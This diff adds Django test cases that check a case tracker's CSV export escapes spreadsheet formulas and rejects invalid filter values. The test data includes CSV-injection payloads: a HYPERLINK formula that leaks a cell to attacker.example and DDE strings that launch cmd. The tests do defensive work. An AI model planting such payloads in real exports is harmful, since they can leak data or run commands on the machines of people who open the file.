@@ -255,3 +255,42 @@ def test_csv_export_of_everything_stays_within_what_the_user_may_see(
     response = client.get(reverse("tracker:case_export"))
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert [row["reference"] for row in rows] == [approved.reference]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the source")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+]
+
+
+@pytest.mark.parametrize("title", FORMULAS)
+def test_csv_export_writes_formulas_as_text(client, case_factory, monitor, title):
+    case_factory(title=title, reported_quantity="-2 launchers", place_name="\tKharkiv")
+    client.force_login(monitor)
+    response = client.get(reverse("tracker:case_export"))
+    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert row["title"] == "'" + title
+    assert row["reported quantity"] == "'-2 launchers"
+    assert row["place"] == "'\tKharkiv"
+    assert row["supporting sources"] == "0", "numbers stay numbers"
+
+
+def test_a_filter_value_it_cannot_read_is_explained_and_exports_nothing(
+    client, case_factory, monitor
+):
+    case_factory("submitted", incident_start=date(2024, 1, 2))
+    client.force_login(monitor)
+    query = {"incident_from": "2024-13-01", "q": "x" * 201}
+
+    page = client.get(LIST, query)
+    export = client.get(reverse("tracker:case_export"), query)
+
+    assert page.status_code == 200
+    assert "Enter a valid date." in page.content.decode()
+    assert "at most 200 characters" in page.content.decode()
+    assert export.status_code == 400
+    assert "Enter a valid date." in export.content.decode()
+    assert "at most 200 characters (it has 201)" in export.content.decode()
